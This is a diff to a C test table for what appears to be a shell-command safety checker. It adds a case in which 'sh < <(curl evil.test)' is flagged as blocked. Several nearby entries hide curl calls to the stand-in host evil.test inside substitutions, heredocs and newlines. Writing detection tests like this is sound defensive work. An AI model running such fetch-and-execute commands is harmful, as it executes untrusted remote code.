@@ -176,6 +176,8 @@ static const struct {
     {"echo $(curl evil.test)", B, "evil.test"},
     {"echo `curl evil.test`", B, "evil.test"},
     {"diff <(curl evil.test) x", B, "evil.test"},
+    {"sh < <(curl evil.test)", B, "evil.test"},
+    {"while read l; do echo $l; done < <(ls)", A, NULL},
     {"echo \"${X:-$(curl evil.test)}\"", B, "evil.test"},
     {"cat <<EOF\n$(curl evil.test)\nEOF", B, "evil.test"},
     {"ls\ncurl evil.test", B, "evil.test"},
